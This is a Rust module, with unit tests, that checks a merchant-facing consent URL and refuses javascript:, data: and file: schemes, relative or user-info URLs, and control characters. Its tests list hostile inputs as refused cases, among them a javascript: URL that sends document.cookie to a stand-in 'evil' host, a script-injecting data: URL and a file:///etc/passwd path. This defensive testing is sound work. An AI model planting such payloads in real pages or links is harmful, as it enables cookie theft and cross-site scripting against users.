//! The check of step 1's consent URL before it reaches anyone: the merchant sends the
//! customer's browser there, and a page may render it as a link, so a URL that is not a web
//! page of a named host (`javascript:`, `data:`, `file:`, a relative path, a URL with a user
//! name...) would run or leak in the merchant's own origin (RFC 6749, section 10.15, warns of
//! the same class of open redirector). Read with the `url` crate (the WHATWG URL parser), never
//! with string tests.

use std::fmt;

/// The longest consent URL accepted, in bytes: far above an operator's consent URL (a few
/// hundred bytes), and about the most a browser's address bar or a log line handles well.
pub const MAX_CONSENT_URL_LEN: usize = 4096;

/// Why step 1's consent URL was refused.
///
/// The URL itself is never kept: it may carry anything.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum UnsafeUrl {
    /// The scopes asked for need consent, and the reply has no consent URL, or an empty one.
    Missing,
    /// It is longer than [`MAX_CONSENT_URL_LEN`] bytes.
    TooLong,
    /// It holds white space or control characters, which a URL parser would silently drop or
    /// a page would render otherwise than it was checked.
    NotPrintable,
    /// It is not an absolute URL (a relative path, or not a URL at all).
    NotAbsolute,
    /// Its scheme is not `https` (nor `http` while the client talks to a loopback server).
    Scheme,
    /// It names no host.
    NoHost,
    /// It holds a user name or a password (`user:pass@host`).
    UserInfo,
}

impl fmt::Display for UnsafeUrl {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            UnsafeUrl::Missing => "the reply has no consent URL, or an empty one",
            UnsafeUrl::TooLong => "the consent URL is longer than 4096 bytes",
            UnsafeUrl::NotPrintable => "the consent URL holds white space or control characters",
            UnsafeUrl::NotAbsolute => "the consent URL is not an absolute URL",
            UnsafeUrl::Scheme => {
                "the consent URL's scheme is not https (http is accepted only from a loopback server)"
            }
            UnsafeUrl::NoHost => "the consent URL names no host",
            UnsafeUrl::UserInfo => "the consent URL holds a user name or password",
        })
    }
}

impl std::error::Error for UnsafeUrl {}

/// Checks step 1's consent URL: `Ok` when there is none and none is needed, or when it is an
/// absolute `https` URL with a host and no user name or password, at most
/// [`MAX_CONSENT_URL_LEN`] bytes, with no white space or control character; `http` is
/// accepted too when `plain_http_ok` (the client itself talks to a loopback server: the
/// sandbox).
pub(crate) fn check(url: Option<&str>, needed: bool, plain_http_ok: bool) -> Result<(), UnsafeUrl> {
    let Some(text) = url.filter(|u| !u.is_empty()) else {
        return if needed {
            Err(UnsafeUrl::Missing)
        } else {
            Ok(())
        };
    };
    if text.len() > MAX_CONSENT_URL_LEN {
        return Err(UnsafeUrl::TooLong);
    }
    if text.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return Err(UnsafeUrl::NotPrintable);
    }
    let parsed = url::Url::parse(text).map_err(|e| match e {
        url::ParseError::EmptyHost => UnsafeUrl::NoHost,
        _ => UnsafeUrl::NotAbsolute,
    })?;
    match parsed.scheme() {
        "https" => {}
        "http" if plain_http_ok => {}
        _ => return Err(UnsafeUrl::Scheme),
    }
    if parsed.host().is_none() {
        return Err(UnsafeUrl::NoHost);
    }
    if !parsed.username().is_empty() || parsed.password().is_some() {
        return Err(UnsafeUrl::UserInfo);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn operator_pages_pass() {
        for ok in [
            "https://api.operator/openidconnect/fr",
            "https://op.example/consent?session=abc&x=%20y#frag",
            "https://xn--bcher-kva.example/c",
            "https://[2001:db8::1]:8443/c",
        ] {
            assert_eq!(check(Some(ok), true, false), Ok(()), "{ok}");
        }
        assert_eq!(
            check(Some("http://127.0.0.1:8080/consent/x"), true, true),
            Ok(())
        );
        assert_eq!(check(None, false, false), Ok(()));
    }

    #[test]
    fn everything_else_is_refused_with_its_rule() {
        let long = format!("https://op.example/{}", "a".repeat(MAX_CONSENT_URL_LEN));
        let cases = [
            (None, UnsafeUrl::Missing),
            (Some(""), UnsafeUrl::Missing),
            (Some(long.as_str()), UnsafeUrl::TooLong),
            (
                Some("javascript:fetch('//evil/'+document.cookie)"),
                UnsafeUrl::Scheme,
            ),
            (
                Some("data:text/html,<script>alert(1)</script>"),
                UnsafeUrl::Scheme,
            ),
            (Some("file:///etc/passwd"), UnsafeUrl::Scheme),
            (Some("JavaScript:alert(1)"), UnsafeUrl::Scheme),
            (Some("vbscript:msgbox"), UnsafeUrl::Scheme),
            (Some("http://op.example/c"), UnsafeUrl::Scheme),
            (Some("ftp://op.example/c"), UnsafeUrl::Scheme),
            (Some("/consent/relative"), UnsafeUrl::NotAbsolute),
            (Some("//evil.example/c"), UnsafeUrl::NotAbsolute),
            (Some("op.example/c"), UnsafeUrl::NotAbsolute),
            (Some("htt***fr.fr/api/a**l8ET6"), UnsafeUrl::NotAbsolute),
            (Some("https://"), UnsafeUrl::NoHost),
            (Some("https://user:pw@op.example/c"), UnsafeUrl::UserInfo),
            (Some("https://user@op.example/c"), UnsafeUrl::UserInfo),
            (Some(" https://op.example/c"), UnsafeUrl::NotPrintable),
            (Some("https://op.example/c\n"), UnsafeUrl::NotPrintable),
            (Some("java\tscript:alert(1)"), UnsafeUrl::NotPrintable),
            (
                Some("https://op.example/\u{1b}[2J"),
                UnsafeUrl::NotPrintable,
            ),
            (Some("https://op.example/\u{85}"), UnsafeUrl::NotPrintable),
        ];
        for (url, why) in cases {
            assert_eq!(check(url, true, false), Err(why), "{url:?}");
        }
        // Loopback leniency is for http only.
        assert_eq!(
            check(Some("javascript:alert(1)"), true, true),
            Err(UnsafeUrl::Scheme)
        );
    }

    #[test]
    fn no_message_repeats_the_url() {
        let all = [
            UnsafeUrl::Missing,
            UnsafeUrl::TooLong,
            UnsafeUrl::NotPrintable,
            UnsafeUrl::NotAbsolute,
            UnsafeUrl::Scheme,
            UnsafeUrl::NoHost,
            UnsafeUrl::UserInfo,
        ];
        for why in all {
            let text = why.to_string();
            assert!(text.starts_with("the "), "{text}");
            assert!(!text.contains("javascript"), "{text}");
        }
    }
}
